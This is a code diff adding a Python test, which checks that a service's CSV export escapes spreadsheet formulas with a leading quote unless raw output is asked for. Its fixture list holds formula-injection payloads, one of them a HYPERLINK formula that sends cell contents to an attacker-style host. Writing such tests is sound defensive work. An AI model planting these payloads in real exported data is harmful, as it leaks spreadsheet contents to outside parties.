@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import contextlib
+import csv
 import dataclasses
 import io
 import json
@@ -179,3 +180,21 @@ def test_a_producer_is_told_of_its_own_batches_alone(web, ledger, path):
     get(web, mine, f"spring/{path}")
     get(web, theirs, f"spring/{path}", code=404)
     assert web.get(f"/api/v1/batches/spring/{path}").status_code == 401
+
+
+def test_a_csv_has_nothing_that_a_spreadsheet_takes_for_a_formula_unless_it_is_asked_for_raw(web, ledger, viewer):
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "@SUM(A1)", "-2+3", "\t=1"]
+    ledger.accounts.sync([stocked_ledger.account()])
+    rows = [
+        dataclasses.replace(row, carried=json.dumps({"key": row.key, "prompt": formula}).encode())
+        for row, formula in zip(stocked_ledger.rows(len(formulas)), formulas, strict=True)
+    ]
+    new = dataclasses.replace(stocked_ledger.new_batch("spring"), columns=("key", "prompt"))
+    ledger.batches.record_manifest(new, rows, now=NOW)
+
+    def prompts(**query):
+        text = get(web, viewer, "spring/results", format="csv", **query).text
+        return [line["prompt"] for line in csv.DictReader(io.StringIO(text, newline=""))]
+
+    assert prompts() == [f"'{each}" for each in formulas]
+    assert prompts(raw="true") == formulas
